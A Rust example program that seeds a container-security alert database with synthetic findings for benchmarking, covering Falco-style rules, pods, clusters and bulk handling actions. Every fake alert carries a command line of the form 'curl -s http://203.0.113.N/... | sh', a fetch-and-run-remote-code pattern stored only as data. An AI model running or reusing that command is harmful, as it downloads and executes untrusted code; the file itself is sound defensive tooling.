//! Fills a database with realistic alerts, for benchmarks:
//! `cargo run --release -p palisade-store --example seed -- DB_PATH COUNT`.
//!
//! Stores COUNT alert findings the way a cluster's agents report them:
//! - 5,000 pods in three clusters (`prod` 70 %, `staging` 20 %, `dev` 10 % of the pods), 20
//!   namespaces, 150 nodes; a fifth of the alerts come from 50 noisy pods;
//! - 8 rules with the severity and category a rule set gives them, the common ones low
//!   (a terminal shell: 30 % of the alerts) and the critical ones rare;
//! - observed in time order over the last 30 days, each with its own command line (a finding
//!   of its own); one in ten is seen again 10 minutes later (a repeat: `count` 2);
//! - handled and ignored ones as an operator leaves them: the K8S API rule ignored on a fifth
//!   of the pods, the terminal shells of a quarter of the pods bulk-handled.
//!
//! Prints the ingest rate of the store alone (no HTTP) and the time of the handling actions.

use std::{path::PathBuf, time::Instant};

use palisade_model::{
    AffectedAsset, AlertCategory, AlertDetails, AuditEntry, Details, FindingKind, FindingReport,
    ProcessInfo, Role, Severity, Status, Timestamp,
};
use palisade_store::{HandlingPolicy, Selection, SqliteStore, Store};

/// A rule of the seed: its name, severity, category and share of the alerts in percent.
struct Rule {
    name: &'static str,
    severity: Severity,
    category: AlertCategory,
    percent: u64,
}

const RULES: [Rule; 8] = [
    rule(
        "Terminal shell in container",
        Severity::Low,
        AlertCategory::Intrusion,
        30,
    ),
    rule(
        "Contact K8S API server from container",
        Severity::Info,
        AlertCategory::HighRiskOperation,
        18,
    ),
    rule(
        "Read sensitive file untrusted",
        Severity::Medium,
        AlertCategory::Intrusion,
        15,
    ),
    rule(
        "Launch package management process in container",
        Severity::Medium,
        AlertCategory::MaliciousImage,
        12,
    ),
    rule(
        "Clear log activities",
        Severity::High,
        AlertCategory::HighRiskOperation,
        8,
    ),
    rule(
        "Write below binary dir",
        Severity::High,
        AlertCategory::Escape,
        8,
    ),
    rule(
        "Outbound connection to C2 server",
        Severity::Critical,
        AlertCategory::Malware,
        5,
    ),
    rule(
        "Drop and execute new binary in container",
        Severity::Critical,
        AlertCategory::MaliciousImage,
        4,
    ),
];

const fn rule(
    name: &'static str,
    severity: Severity,
    category: AlertCategory,
    percent: u64,
) -> Rule {
    Rule {
        name,
        severity,
        category,
        percent,
    }
}

const PODS: u64 = 5_000;
const NOISY_PODS: u64 = 50;
const APPS: [&str; 10] = [
    "web", "api", "worker", "cart", "payments", "search", "auth", "mailer", "ingest", "report",
];
const SPAN_MS: i64 = 30 * 86_400_000;
/// One finding in this many is reported twice.
const REPEATED_EVERY: u64 = 10;
const REPEAT_AFTER_MS: i64 = 10 * 60_000;

/// A well-mixed 64-bit value of `index` and `stream` (splitmix64), so that rule, pod and the
/// rest are chosen independently of each other.
fn mix(index: u64, stream: u64) -> u64 {
    let mut z = index
        .wrapping_mul(0x9E37_79B9_7F4A_7C15)
        .wrapping_add(stream.wrapping_mul(0xD1B5_4A32_D192_ED03));
    z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    z ^ (z >> 31)
}

fn rule_of(index: u64) -> &'static Rule {
    let mut draw = mix(index, 1) % 100;
    RULES
        .iter()
        .find(|rule| {
            let here = draw < rule.percent;
            draw = draw.saturating_sub(rule.percent);
            here
        })
        .expect("the rules' shares add up to 100")
}

fn pod_of(index: u64) -> u64 {
    let draw = mix(index, 2);
    if draw.is_multiple_of(5) {
        (draw >> 8) % NOISY_PODS
    } else {
        (draw >> 8) % PODS
    }
}

/// The pod's container, in the cluster and namespace the pod belongs to.
fn asset(pod: u64) -> AffectedAsset {
    let cluster = match pod % 20 {
        0..14 => "prod",
        14..18 => "staging",
        _ => "dev",
    };
    AffectedAsset {
        cluster: cluster.into(),
        node: Some(format!("{cluster}-node-{}", pod % 50)),
        namespace: Some(format!("team-{}", (pod / 20) % 20)),
        pod: Some(format!("{}-{pod}", APPS[(pod % 10) as usize])),
        container_name: Some("app".into()),
        image: Some(format!(
            "registry.example/shop/{}:1.{}.2",
            APPS[(pod % 10) as usize],
            pod % 7
        )),
        ..Default::default()
    }
}

/// Finding number `index` of `count`, first observed in the last 30 days before `now`.
fn report(index: u64, count: u64, now: i64) -> FindingReport {
    let rule = rule_of(index);
    let pod = pod_of(index);
    let asset = asset(pod);
    let pod_name = asset.pod.clone().unwrap_or_default();
    let cmdline = format!(
        "sh -c 'curl -s http://203.0.113.{}/x{index} | sh'",
        index % 250
    );
    let output = format!(
        "{} (user=root command={cmdline} container=app pod={pod_name} ns={} image={})",
        rule.name,
        asset.namespace.as_deref().unwrap_or_default(),
        asset.image.as_deref().unwrap_or_default(),
    );
    FindingReport {
        id: uuid::Uuid::now_v7(),
        observed_at: Timestamp(now - SPAN_MS + (index as i64) * (SPAN_MS / count.max(1) as i64)),
        severity: rule.severity,
        rule: rule.name.into(),
        title: format!("{} in {pod_name}", rule.name),
        asset,
        details: Details::Alert(AlertDetails {
            category: Some(rule.category),
            output,
            process: ProcessInfo {
                pid: (mix(index, 3) % 60_000) as u32 + 100,
                ppid: 1,
                exe: "/bin/sh".into(),
                // Distinct command lines make distinct findings, as in a noisy real cluster.
                cmdline,
                user: "root".into(),
            },
            raw_event: serde_json::json!({"evt.type": "execve", "proc.name": "sh", "n": index}),
            ..Default::default()
        }),
        demo: false,
    }
}

/// Findings `range` of `count` and the repeats among them, in the order they are observed.
fn reports(range: std::ops::Range<u64>, count: u64, now: i64) -> Vec<FindingReport> {
    let mut batch = Vec::new();
    for index in range {
        let first = report(index, count, now);
        let repeat = index.is_multiple_of(REPEATED_EVERY).then(|| FindingReport {
            id: uuid::Uuid::now_v7(),
            observed_at: Timestamp(first.observed_at.millis() + REPEAT_AFTER_MS),
            ..first.clone()
        });
        batch.push(first);
        batch.extend(repeat);
    }
    batch
}

/// Moves the open alerts of `rule` on every pod that `chosen` picks to `to`, one
/// "handle similar" action per pod as the console makes it; returns how many.
async fn handle_similar(
    store: &SqliteStore,
    rule: &str,
    chosen: fn(u64) -> bool,
    to: Status,
) -> u64 {
    let mut changed = 0;
    for pod in (0..PODS).filter(|&pod| chosen(pod)) {
        let asset_id = asset(pod).asset_id();
        let audit = AuditEntry {
            id: uuid::Uuid::now_v7(),
            at: Timestamp::now(),
            actor: "seed".into(),
            role: Role::Operator,
            action: format!("alert.{}", to.as_str()),
            target_kind: "alert".into(),
            target_id: asset_id.to_string(),
            reason: "seeded".into(),
            details: serde_json::json!({}),
        };
        let selection = Selection::Similar {
            rule: rule.into(),
            asset_id: Some(asset_id),
        };
        changed += store
            .set_status(FindingKind::Alert, &selection, &[Status::Open], to, &audit)
            .await
            .expect("setting a status failed");
    }
    changed
}

#[tokio::main]
async fn main() {
    let mut args = std::env::args().skip(1);
    let (Some(path), Some(count)) = (args.next(), args.next()) else {
        eprintln!("usage: seed DB_PATH COUNT");
        std::process::exit(2);
    };
    let count: u64 = count.parse().expect("COUNT must be a number");
    let store = SqliteStore::open(&PathBuf::from(path))
        .await
        .expect("cannot open the database");
    let now = Timestamp::now().millis();
    let started = Instant::now();
    let policy = HandlingPolicy::default();
    let mut index = 0;
    let mut reported = 0;
    while index < count {
        let end = (index + 5_000).min(count);
        let batch = reports(index..end, count, now);
        store.ingest(&batch, &policy).await.expect("ingest failed");
        reported += batch.len();
        index = end;
    }
    let seconds = started.elapsed().as_secs_f64();
    println!(
        "ingested {reported} alerts ({count} findings) in {seconds:.1} s: {:.0} alerts/s",
        reported as f64 / seconds
    );
    let started = Instant::now();
    let ignored = handle_similar(
        &store,
        RULES[1].name,
        |pod| pod.is_multiple_of(5),
        Status::Ignored,
    )
    .await;
    let handled = handle_similar(&store, RULES[0].name, |pod| pod % 4 == 1, Status::Handled).await;
    println!(
        "ignored {ignored} and handled {handled} alerts in {:.1} s",
        started.elapsed().as_secs_f64()
    );
}
